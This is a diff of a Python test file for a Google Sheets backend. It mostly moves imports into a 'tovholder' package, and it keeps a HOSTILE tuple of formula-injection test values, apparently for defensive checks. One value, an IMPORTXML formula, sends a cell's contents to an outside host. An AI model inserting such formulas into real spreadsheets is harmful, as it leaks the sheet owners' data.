@@ -8,11 +8,11 @@ from pathlib import Path
 import gspread
 import pytest
 
-from sheets.batch import Batch, NewTab
-from sheets.google import GoogleBackend
 from tests import sheets_standin
 from tests.sheets_standin import SheetsStandin
-from tovholder.errors import SheetsUnavailable, WorkbookError
+from tovholder.core.errors import SheetsUnavailable, WorkbookError
+from tovholder.sheets.batch import Batch, NewTab
+from tovholder.sheets.google import GoogleBackend
 
 SHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz"
 HOSTILE = ('=IMPORTXML("https://x/?"&A1)', "+1", "@SUM(1)", "-2+3", "=1+1", "'quoted")
